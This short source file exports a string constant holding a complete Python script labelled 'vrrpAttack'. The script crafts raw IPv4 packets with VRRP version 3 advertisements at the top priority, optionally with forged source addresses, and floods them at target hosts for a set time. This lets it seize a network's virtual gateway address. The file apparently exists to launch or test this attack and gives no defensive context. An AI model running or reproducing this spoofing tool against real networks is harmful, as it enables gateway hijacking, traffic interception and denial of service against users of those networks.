/**
 * Python program: SOURCE,... VRID VIRTUAL-ADDRESS SECONDS TARGET... Sends adverts of VRRP 3 with the highest priority. SOURCE: a forged
 * address, or "-" for its own. Prints how many were sent and how many the system refused.
 */
export const vrrpAttack = `
import socket, struct, sys, time
sources, router, virtual, seconds, *targets = sys.argv[1:]

def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff

def own_address(target):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((target, 9))
        return probe.getsockname()[0]

def packet(source, target):
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    advert = struct.pack("!BBBBHH", 0x31, int(router), 255, 1, 20, 0) + socket.inet_aton(virtual)
    sum_of_it = checksum(ends + struct.pack("!BBH", 0, 112, len(advert)) + advert)
    advert = advert[:6] + struct.pack("!H", sum_of_it) + advert[8:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(advert), 0, 0, 255, 112, 0) + ends + advert

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = refused = 0
end = time.monotonic() + float(seconds)
while time.monotonic() < end:
    for source, target in [(s, t) for s in sources.split(",") for t in targets]:
        try:
            raw.sendto(packet(own_address(target) if source == "-" else source, target), (target, 0))
            sent += 1
        except PermissionError:
            refused += 1
    time.sleep(0.05)
print("sent", sent, "refused", refused)
`;
